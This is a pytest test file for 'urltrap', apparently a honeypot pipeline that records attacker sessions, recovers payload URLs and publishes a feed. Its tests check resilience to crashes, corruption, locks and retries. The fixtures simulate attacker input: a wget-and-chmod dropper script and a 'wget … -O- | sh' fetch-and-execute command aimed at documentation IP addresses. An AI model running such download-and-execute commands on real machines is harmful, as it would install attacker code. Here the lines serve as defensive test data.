from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
import threading
from pathlib import Path
from typing import Literal

import pytest
from sqlalchemy import event as sqlalchemy_event
from sqlalchemy import select, update
from tests.pipeline.conftest import ELF, EXAMINER, START, Bench, FakeFetcher
from tests.pipeline.test_line import URL, attack, listed

from urltrap.journal import JournalReader
from urltrap.model.event import EventBase
from urltrap.pipeline import process
from urltrap.pipeline.line import Line
from urltrap.pipeline.rebuilding import rebuild
from urltrap.pipeline.stages import stages
from urltrap.store import Store, StoreLocked, open_store
from urltrap.store.queries import feed, overview, sessions, urls
from urltrap.store.schema import dead_letters, jobs, metadata

ROOT = Path(__file__).resolve().parents[2]


class FromTheFuture(EventBase):
    """An event of a version that is not written yet."""

    kind: Literal["from.the.future"] = "from.the.future"
    text: str = "\x1b[2J"


def contents(store: Store, *without: str) -> dict[str, list[tuple[object, ...]]]:
    with store.connect() as connection:
        return {
            name: sorted((tuple(row) for row in connection.execute(select(table))), key=repr)
            for name, table in metadata.tables.items()
            if name not in without
        }


def fill(bench: Bench) -> None:
    """Attacks whose every request the trap makes itself, so that the pipeline has nothing to ask."""
    second = b"http://198.51.100.9/second"
    bench.fetcher.bodies[URL.decode()] = b"#!/bin/sh\nwget " + second + b"\nchmod 755 second\n"
    bench.fetcher.bodies[second.decode()] = ELF
    for number in range(3):
        attack(bench, URL, f"203.0.113.{number}")
        attack(bench, second, f"203.0.113.{number}")
        bench.visit(
            b"uname -a", b"curl http://127.0.0.1/held", uploads=[b"#!/bin/sh\necho %d; rm -f x\n" % number]
        )


def test_a_record_of_an_unknown_kind_is_set_aside_and_the_line_goes_on(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    for seq in range(3):
        bench.trap.append(FromTheFuture(session="01ARZ3NDEKTSV4RRFFQ69G5FAV", seq=seq, at=START))
    attack(bench)
    bench.trap.append(FromTheFuture(session="01ARZ3NDEKTSV4RRFFQ69G5FAV", seq=9, at=START))
    bench.line.drain()
    assert listed(bench) == [URL.decode()]
    with bench.store.connect() as connection:
        letters = connection.execute(select(dead_letters).order_by(dead_letters.c.offset)).all()
    assert [letter.kind for letter in letters] == ["from.the.future"] * 4
    assert b'"text":"\\u001b[2J"' in letters[0].record
    assert letters[0].writer == "trap-0" and letters[0].offset < letters[1].offset
    assert overview.counters(bench.store, START).dead_letters == 4


def test_damage_in_a_closed_segment_is_stepped_over(tmp_path: Path) -> None:
    bench = Bench(tmp_path, journal={"segment_bytes": 65_536})
    for number in range(12):
        bench.visit(b"echo %d " % number + b"x" * 12_000)
    closed = sorted((tmp_path / "journal" / "trap-0").glob("*.seg"))[0]
    raw = bytearray(closed.read_bytes())
    raw[20_000] ^= 0xFF
    closed.write_bytes(raw)
    bench.line.drain()
    figures = overview.counters(bench.store, START)
    assert figures.dead_letters == 1
    assert figures.commands >= 10
    bench.close()


def test_closed_segments_are_archived_once_they_are_in_the_store(tmp_path: Path) -> None:
    bench = Bench(tmp_path, journal={"segment_bytes": 65_536})
    for number in range(12):
        bench.visit(b"echo %d " % number + b"x" * 12_000)
    before = len(list((tmp_path / "journal" / "trap-0").glob("*.seg")))
    bench.line.drain()
    folder = tmp_path / "journal" / "trap-0"
    (left,), archived = folder.glob("*.seg"), list(folder.glob("*.seg.zst"))
    assert 1 < before <= len(archived) + 1  # one more may have been begun since
    assert all(path.name < left.name for path in archived)
    bench.close()


def test_a_job_that_fails_is_tried_later_and_stops_nobody(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    from urltrap.pipeline import recovering

    original = recovering.recover.urls

    def fail(text: bytes, context: object) -> object:
        if b"poison" in text:
            raise RecursionError("too deep")
        return original(text, context)  # type: ignore[arg-type]

    monkeypatch.setattr(recovering.recover, "urls", fail)
    bench.visit(b"wget http://198.51.100.9/poison", b"wget http://198.51.100.9/good")
    bench.line.drain()
    assert [row.url for row in urls.page(bench.store).rows] == ["http://198.51.100.9/good"]
    with bench.store.connect() as connection:
        job = connection.execute(select(jobs).where(jobs.c.stage == "recover")).one()
    assert job.attempts == 1 and "too deep" in job.error and job.due > START
    monkeypatch.undo()
    bench.settle()
    assert len(urls.page(bench.store).rows) == 2


def test_ingesting_the_whole_journal_again_changes_nothing(bench: Bench) -> None:
    fill(bench)
    bench.line.drain()
    before = contents(bench.store)
    from urltrap.store.schema import watermarks

    with bench.store.begin() as connection:
        connection.execute(update(watermarks).values(segment=0, offset=0))
    with JournalReader(bench.folder / "journal") as reader:
        Line(bench.workshop, reader, stages()).drain()
    assert contents(bench.store) == before


def test_a_rebuilt_store_is_the_same_store(
    bench: Bench, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fill(bench)
    bench.line.drain()
    fresh = open_store(str(tmp_path / "rebuilt.db"))
    monkeypatch.setattr("urltrap.pipeline.rebuilding.make_workshop", lambda *_: bench.make_workshop(fresh))
    rebuild(bench.settings, bench.folder, fresh)
    assert contents(fresh, "jobs") == contents(bench.store, "jobs")
    fresh.close()


CHANGES = {"testing": {"public_networks": ["198.51.100.0/24"]}}
"""Settings of the pipelines that are killed, and of the one that they are compared with."""

CHILD = """
import os, signal, sys
from pathlib import Path
from sqlalchemy import event
from tests.pipeline.test_survival import resume

folder, points = Path(sys.argv[1]), [int(point) for point in sys.argv[2:]]

def run(last):
    count = 0

    def step(*_):
        nonlocal count
        count += 1
        if count >= last:
            os.kill(os.getpid(), signal.SIGKILL)

    line, store = resume(folder)
    event.listen(store.engine, "before_cursor_execute", step)
    line.drain()

for point in points:
    # Everything is imported once; each pipeline is a process of its own.
    if (child := os.fork()) == 0:
        run(point)
        os._exit(0)
    _, status = os.waitpid(child, 0)
    print(os.waitstatus_to_exitcode(status), flush=True)
"""


def resume(folder: Path) -> tuple[Line, Store]:
    """A pipeline over a folder that another process filled; it asks nobody."""
    from tests.pipeline.conftest import FakePlaces

    from urltrap.intel import known
    from urltrap.model.settings import Settings
    from urltrap.pipeline.workshop import Workshop
    from urltrap.quarantine import Quarantine

    settings = Settings.model_validate({"publish": {"delay_minutes": [0, 0]}, **CHANGES})
    store = open_store(str(folder / "killed.db"))

    class Nobody:
        def fetch(self, request: object, timeout: float = 0) -> object:
            raise AssertionError("nothing is to be asked")

    workshop = Workshop(
        settings=settings,
        store=store,
        quarantine=Quarantine(folder / "quarantine"),
        fetcher=Nobody(),  # type: ignore[arg-type]
        places=FakePlaces(),
        providers=[],
        known_hosts=known.shipped(),
        laboratory=EXAMINER,
        now=lambda: START,
    )
    return Line(workshop, JournalReader(folder / "journal"), stages()), store


def test_a_pipeline_killed_at_any_statement_ends_with_the_same_store(tmp_path: Path) -> None:
    bench = Bench(tmp_path, **CHANGES)
    fill(bench)
    bench.line.drain()
    assert contents(bench.store)["capture_tasks"], "what is to be asked later is compared as well"
    open_store(str(bench.folder / "killed.db")).close()
    environment = {**os.environ, "PYTHONPATH": os.pathsep.join([str(ROOT), *sys.path])}
    points = (7, 30, 60, 110, 170)
    done = subprocess.run(
        [sys.executable, "-c", CHILD, str(bench.folder), *map(str, points)],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=110,
    )
    ends = [int(code) for code in done.stdout.split()]
    assert done.returncode == 0 and len(ends) == len(points), done.stderr
    assert ends.count(-signal.SIGKILL) >= 3 and set(ends) <= {0, -signal.SIGKILL}, done.stderr
    line, store = resume(bench.folder)
    line.drain()
    volatile = ("facts",)
    assert contents(store, *volatile) == contents(bench.store, *volatile)
    store.close()
    bench.close()


def test_a_locked_store_is_waited_for_with_nothing_lost(bench: Bench) -> None:
    bench.fetcher.bodies[URL.decode()] = ELF
    attack(bench)
    stop, ready, refused = threading.Event(), threading.Event(), threading.Event()
    locked = threading.Event()
    locked.set()

    def lock(_connection: object, _cursor: object, statement: str, *_rest: object) -> None:
        if locked.is_set() and statement.startswith("INSERT"):
            refused.set()
            raise StoreLocked("held by a test")

    sqlalchemy_event.listen(bench.store.engine, "before_cursor_execute", lock)
    runner = threading.Thread(target=bench.line.run, args=(stop, ready.set))
    runner.start()
    assert refused.wait(20)
    assert not ready.is_set()
    locked.clear()
    assert ready.wait(20)
    stop.set()
    runner.join(20)
    bench.line.drain()
    assert listed(bench) == [URL.decode()]


async def test_the_process_takes_events_while_it_runs_and_ends_when_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bench = Bench(tmp_path, testing={"public_networks": ["198.51.100.0/24"]})
    from urltrap.pipeline.workshop import utc_now

    bench.time = utc_now()
    bench.fetcher.bodies[URL.decode()] = ELF
    monkeypatch.setattr(process, "BlockingFetcherClient", lambda path: bench.fetcher)
    ready, stop = asyncio.Event(), asyncio.Event()
    running = asyncio.create_task(
        process.run_pipeline(bench.settings, tmp_path, ready.set, stop, installation="this")
    )
    await asyncio.wait_for(ready.wait(), 30)
    # A command that no program of the machine carries out: the pipeline asks, the fetcher journals, the feed has it.
    bench.visit(b"wget " + URL + b" -O- | sh", runs=[])

    def published() -> list[str]:
        return [row.url for row in feed.rows(bench.store, utc_now(), 60)]

    for _ in range(400):
        if await asyncio.to_thread(published):
            break
        await asyncio.sleep(0.05)
    assert published() == [URL.decode()]
    assert isinstance(bench.fetcher, FakeFetcher) and len(bench.fetcher.requests) == 1
    stop.set()
    await asyncio.wait_for(running, 30)
    assert len(sessions.page(bench.store).rows) == 1
    bench.close()


async def test_a_store_that_cannot_be_opened_ends_the_process_with_its_reason(tmp_path: Path) -> None:
    from urltrap.model.settings import Settings
    from urltrap.store import StoreCorrupt

    (tmp_path / "urltrap.db").write_bytes(b"no database " * 999)
    with pytest.raises(StoreCorrupt):
        await process.run_pipeline(Settings(), tmp_path, lambda: None, asyncio.Event(), installation="this")
